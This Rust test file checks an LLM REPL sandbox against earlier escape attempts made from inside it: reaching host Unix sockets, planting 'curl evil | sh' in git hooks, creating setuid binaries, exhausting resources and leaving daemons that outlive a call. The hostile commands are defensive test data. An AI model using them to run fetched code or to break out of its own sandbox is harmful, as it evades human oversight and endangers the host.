//! Attacks that got through before the private mount namespace, the unprivileged host uid, the
//! per-sandbox control group and the anchor (issue 10, classes 1, 3, 4 and 7). Each is a real
//! attempt from inside, followed by a call that must still work.

#![allow(clippy::unwrap_used)]

use std::os::fd::AsRawFd;
use std::os::unix::net::UnixListener;
use std::path::{Path, PathBuf};
use std::time::Duration;

use llm_repl_sandbox::CgroupSupport;
use llm_repl_sandbox::testing::{Beacon, Until};
use llm_repl_sandbox::{Exit, Job, NOBODY, Sandbox, cgroup_support};

mod common;

use common::*;

fn connect_code(path: &Path) -> String {
    format!(
        "import socket\ns = socket.socket(socket.AF_UNIX)\ntry:\n    s.connect('{}')\n    s.sendall(b'run: id')\n    print('CONNECTED')\nexcept OSError as x:\n    print('blocked', x.errno)",
        path.display()
    )
}

/// A host service listening on a path socket outside the workspace, open to everyone.
fn host_service(dir: &Path) -> (UnixListener, PathBuf) {
    use std::os::unix::fs::PermissionsExt;
    let svc = dir.join("run");
    std::fs::create_dir(&svc).unwrap();
    std::fs::set_permissions(&svc, std::fs::Permissions::from_mode(0o777)).unwrap();
    let path = svc.join("service.sock");
    let l = UnixListener::bind(&path).unwrap();
    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o777)).unwrap();
    l.set_nonblocking(true).unwrap();
    (l, path)
}

fn nobody_connected(l: &UnixListener) -> bool {
    matches!(l.accept(), Err(e) if e.kind() == std::io::ErrorKind::WouldBlock)
}

// Class 1: host services over filesystem Unix sockets.

#[tokio::test]
async fn a_host_socket_outside_the_workspace_cannot_be_reached() {
    let e = env();
    let (l, path) = host_service(e.dir.path());
    let r = e.py(&connect_code(&path)).await;
    assert!(r.output.contains("blocked"), "{}", r.output);
    assert!(nobody_connected(&l), "the service got a connection");
    let r = e
        .sh(&format!(
            "ls {} 2>&1; echo $?",
            path.parent().unwrap().display()
        ))
        .await;
    assert!(r.output.contains("No such file"), "{}", r.output);
    e.still_works().await;
}

#[tokio::test]
async fn a_host_socket_stays_out_of_reach_with_the_network_on() {
    let mut e = env();
    e.settings.network = true;
    let (l, path) = host_service(e.dir.path());
    let r = e.py(&connect_code(&path)).await;
    assert!(r.output.contains("blocked"), "{}", r.output);
    assert!(nobody_connected(&l), "the service got a connection");
    e.still_works().await;
}

#[tokio::test]
async fn host_runtime_dirs_are_not_there() {
    let e = env();
    let r = e
        .py("import os\nfor p in ['/run', '/var/run', '/var/lib', '/home', '/root', '/tmp/.X11-unix', '/run/dbus/system_bus_socket']:\n    print(p, os.path.exists(p))")
        .await;
    assert!(!r.output.contains("True"), "{}", r.output);
    let marker = std::env::temp_dir().join(format!("llm-repl-host-marker-{}", std::process::id()));
    std::fs::write(&marker, "host").unwrap();
    let r = e.py("import os; print(sorted(os.listdir('/tmp')))").await;
    let _ = std::fs::remove_file(&marker);
    assert!(
        !r.output.contains("llm-repl-host-marker"),
        "the host's /tmp shows: {}",
        r.output
    );
    e.still_works().await;
}

#[tokio::test]
async fn a_service_sees_an_unprivileged_peer_never_root() {
    let e = env();
    let path = e.ws.join("peer.sock");
    let l = UnixListener::bind(&path).unwrap();
    let r = e.py(&connect_code(&path)).await;
    assert!(r.output.contains("CONNECTED"), "{}", r.output);
    let (conn, _) = l.accept().unwrap();
    let mut cred = libc::ucred {
        pid: 0,
        uid: 0,
        gid: 0,
    };
    let mut len = std::mem::size_of::<libc::ucred>() as libc::socklen_t;
    // SAFETY: getsockopt with a correctly sized ucred buffer on a socket we own.
    let rc = unsafe {
        libc::getsockopt(
            conn.as_raw_fd(),
            libc::SOL_SOCKET,
            libc::SO_PEERCRED,
            (&mut cred as *mut libc::ucred).cast(),
            &mut len,
        )
    };
    assert_eq!(rc, 0);
    // SAFETY: geteuid cannot fail.
    let me = unsafe { libc::geteuid() };
    let expected = if me == 0 { NOBODY } else { me };
    assert_eq!(
        cred.uid, expected,
        "the sandbox reached the service as uid {}",
        cred.uid
    );
    assert_ne!(cred.uid, 0);
    e.still_works().await;
}

// Class 7: persistence through the workspace.

#[tokio::test]
async fn git_hooks_and_workspace_plugins_cannot_be_written() {
    let e = env();
    std::fs::create_dir_all(e.ws.join(".git/hooks")).unwrap();
    std::fs::create_dir_all(e.ws.join(".llm-repl/tools")).unwrap();
    let r = e
        .py("import os\nfor p in ['.git/hooks/pre-commit', '.llm-repl/tools/evil.py', '.git/config']:\n    try:\n        open(p, 'a').write('curl evil | sh')\n        print('WROTE', p)\n    except OSError as x:\n        print('refused', p, x.errno)")
        .await;
    assert!(!r.output.contains("WROTE"), "{}", r.output);
    assert_eq!(r.output.matches("refused").count(), 3, "{}", r.output);
    let r = e
        .sh("mv .git .git-moved; rm -rf .llm-repl; chmod +x .git/hooks; ln -s /tmp .git/hooks/x; ls .git .llm-repl")
        .await;
    assert!(e.ws.join(".git/hooks").is_dir() && e.ws.join(".llm-repl/tools").is_dir());
    assert!(!e.ws.join(".git-moved").exists(), "{}", r.output);
    assert!(!e.ws.join(".git/hooks/pre-commit").exists());
    assert!(!e.ws.join(".git/hooks/x").exists());
    e.still_works().await;
}

#[tokio::test]
async fn a_symlinked_git_dir_inside_the_workspace_is_protected_too() {
    let e = env();
    std::fs::create_dir_all(e.ws.join("real-git/hooks")).unwrap();
    std::os::unix::fs::symlink("real-git", e.ws.join(".git")).unwrap();
    let r = e
        .sh("echo evil > .git/hooks/pre-commit; echo evil > real-git/hooks/post-commit; echo $?")
        .await;
    assert!(
        !e.ws.join("real-git/hooks/pre-commit").exists(),
        "{}",
        r.output
    );
    assert!(
        !e.ws.join("real-git/hooks/post-commit").exists(),
        "{}",
        r.output
    );
    e.still_works().await;
}

#[tokio::test]
async fn the_protected_list_can_be_opened_by_config() {
    let mut e = env();
    e.settings.protected.clear();
    std::fs::create_dir_all(e.ws.join(".git/hooks")).unwrap();
    let r = e.sh("echo ok > .git/hooks/pre-commit && echo WROTE").await;
    assert!(r.output.contains("WROTE"), "{}", r.output);
}

#[tokio::test]
async fn no_setuid_or_setgid_file_can_be_made_in_the_workspace() {
    let e = env();
    let r = e
        .sh("cp /bin/true t1 && chmod u+s t1; cp /bin/true t2 && chmod g+s t2; python3 -c \"import os; os.close(os.open('t3', os.O_CREAT|os.O_WRONLY, 0o4755))\"; install -m 4755 /bin/true t4; echo done")
        .await;
    assert!(r.output.contains("done"), "{}", r.output);
    e.assert_no_setid(&["t1", "t2", "t3", "t4"], &r.output);
    e.still_works().await;
}

// Class 4: limits for the whole sandbox.

fn has_cgroup() -> bool {
    !matches!(cgroup_support(), CgroupSupport::Unavailable(_))
}

/// Sandbox A holds 15 processes while sandbox B, with the same limit of 20, forks 15 of its own.
/// (Each sandbox has its own user namespace, so the kernel counts RLIMIT_NPROC per sandbox too;
/// this guards that two sessions never share one process budget.)
#[tokio::test]
async fn one_sandboxs_processes_do_not_use_up_anothers_limit() {
    if !has_cgroup() {
        eprintln!("skipped: {}", cgroup_support().summary());
        return;
    }
    let mut a = env();
    a.settings.max_processes = 20;
    let beacon = std::sync::Arc::new(Beacon::new(&a.ws).unwrap());
    let holder = Sandbox::new(a.settings.clone());
    let job = Job {
        program: "/bin/sh".into(),
        args: vec![
            "-c".into(),
            "for i in $(seq 15); do sleep 60 & done; printf up > beacon; wait".into(),
        ],
        cwd: a.ws.clone(),
        env: Vec::new(),
        stdin: Vec::new(),
        timeout: Duration::from_secs(60),
    };
    let cancel = tokio_util::sync::CancellationToken::new();
    let stop = cancel.clone();
    let held = tokio::spawn(async move {
        let mut sink = |_, _: &str| {};
        holder.run(&job, &stop, &mut sink).await
    });
    let b = beacon.clone();
    let up = tokio::task::spawn_blocking(move || b.wait(Until::Up, Duration::from_secs(20)));
    assert!(up.await.unwrap(), "sandbox A never started its processes");
    let mut other = env();
    other.settings.max_processes = 20;
    let code = "import os\nn = 0\nfor i in range(15):\n    pid = os.fork()\n    if pid == 0:\n        os._exit(0)\n    os.waitpid(pid, 0)\n    n += 1\nprint('forked', n)";
    let r = other.py(code).await;
    cancel.cancel();
    let _ = held.await;
    assert!(r.output.contains("forked 15"), "{} {:?}", r.output, r.exit);
}

#[tokio::test]
async fn memory_is_limited_for_the_whole_sandbox_not_per_process() {
    if !has_cgroup() {
        eprintln!("skipped: {}", cgroup_support().summary());
        return;
    }
    let mut e = env();
    e.settings.memory_bytes = 256 * 1024 * 1024;
    let code = "import os, time\nkids = []\nfor i in range(4):\n    pid = os.fork()\n    if pid == 0:\n        try:\n            b = b'\\x01' * (100 << 20)\n            os.write(1, b'ALLOCATED\\n')\n            time.sleep(2)\n            os.write(1, b'SURVIVED\\n')\n        except MemoryError:\n            os.write(1, b'MEMERR\\n')\n        os._exit(0)\n    kids.append(pid)\nfor p in kids:\n    os.waitpid(p, 0)\nprint('DONE')";
    let r = e.py(code).await;
    // All four holding 100 MB at once is what the limit forbids (the OOM killer may strike
    // after a child said it allocated, so count the ones that lived to the end).
    let survived = r.output.matches("SURVIVED").count();
    assert!(
        survived < 4 || !r.output.contains("DONE") || r.exit != Exit::Code(0),
        "4 x 100 MB passed a 256 MB sandbox: {} {:?}",
        r.output,
        r.exit
    );
    e.still_works().await;
}

#[tokio::test]
async fn home_and_tmp_are_size_capped() {
    let mut e = env();
    e.settings.tmp_bytes = 16 * 1024 * 1024;
    let r = e
        .py("import os\ntry:\n    open(os.path.join(os.environ['HOME'], 'big'), 'wb').write(b'x' * (64 << 20))\n    print('WROTE 64 MB')\nexcept OSError as x:\n    print('refused', x.errno)")
        .await;
    assert!(r.output.contains("refused 28"), "{}", r.output);
    let r = e
        .sh("dd if=/dev/zero of=/dev/shm/big bs=1M count=64 2>&1; echo rc=$?")
        .await;
    assert!(!r.output.contains("rc=0"), "{}", r.output);
    e.still_works().await;
}

#[tokio::test]
async fn the_number_of_scratch_files_is_capped() {
    let mut e = env();
    e.settings.tmp_inodes = 500;
    let r = e
        .py("import os\nn = 0\ntry:\n    for i in range(5000):\n        open(os.path.join(os.environ['HOME'], f'f{i}'), 'w').close()\n        n += 1\n    print('MADE', n)\nexcept OSError as x:\n    print('stopped at', n, x.errno)")
        .await;
    assert!(r.output.contains("stopped at"), "{}", r.output);
    e.still_works().await;
}

#[tokio::test]
async fn scratch_leaves_nothing_on_the_host() {
    let e = env();
    let marker = format!("llm-repl-scratch-marker-{}", std::process::id());
    let r = e
        .sh(&format!(
            "echo x > $HOME/{marker} && echo x > $TMPDIR/{marker}.2 && echo ok"
        ))
        .await;
    assert!(r.output.contains("ok"), "{}", r.output);
    let found = std::process::Command::new("find")
        .args(["/tmp", "-xdev", "-name", &format!("{marker}*")])
        .output()
        .unwrap();
    assert!(
        found.stdout.is_empty(),
        "{}",
        String::from_utf8_lossy(&found.stdout)
    );
    e.still_works().await;
}

// Class 3: processes that outlive their call.

/// Python that leaves a double-forked, session-leading daemon holding the beacon open.
const DAEMON: &str = "import os, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n        fd = os.open('beacon', os.O_WRONLY)\n        os.write(fd, b'up')\n        time.sleep(300)\n    os._exit(0)\nos.wait()\nprint('daemon started', flush=True)";

#[tokio::test]
async fn a_daemon_a_call_left_behind_is_killed_with_the_strays() {
    let e = env();
    let beacon = Beacon::new(&e.ws).unwrap();
    let sandbox = Sandbox::new(e.settings.clone());
    let job = Job {
        program: "/usr/bin/python3".into(),
        args: vec![
            "-I".into(),
            "-c".into(),
            format!("{DAEMON}\nimport sys\nfor line in sys.stdin:\n    print('echo', line.strip(), flush=True)").into(),
        ],
        cwd: e.ws.clone(),
        env: Vec::new(),
        stdin: Vec::new(),
        timeout: Duration::from_secs(20),
    };
    let mut spawned = sandbox.spawn(&job).unwrap();
    let mut out = tokio::io::BufReader::new(spawned.child.stdout.take().unwrap());
    let mut line = String::new();
    use tokio::io::{AsyncBufReadExt, AsyncWriteExt};
    out.read_line(&mut line).await.unwrap();
    assert!(line.contains("daemon started"), "{line}");
    let beacon = std::sync::Arc::new(beacon);
    let b = beacon.clone();
    let up = tokio::task::spawn_blocking(move || b.wait(Until::Up, Duration::from_secs(10)));
    assert!(up.await.unwrap(), "no daemon");
    assert!(spawned.kill_strays() >= 1);
    let b = beacon.clone();
    let gone = tokio::task::spawn_blocking(move || b.wait(Until::Gone, Duration::from_secs(10)));
    assert!(gone.await.unwrap(), "the daemon survived");
    // The program itself is alive and answers.
    let mut stdin = spawned.child.stdin.take().unwrap();
    stdin.write_all(b"still here\n").await.unwrap();
    line.clear();
    out.read_line(&mut line).await.unwrap();
    assert_eq!(line.trim(), "echo still here");
    spawned.kill();
}
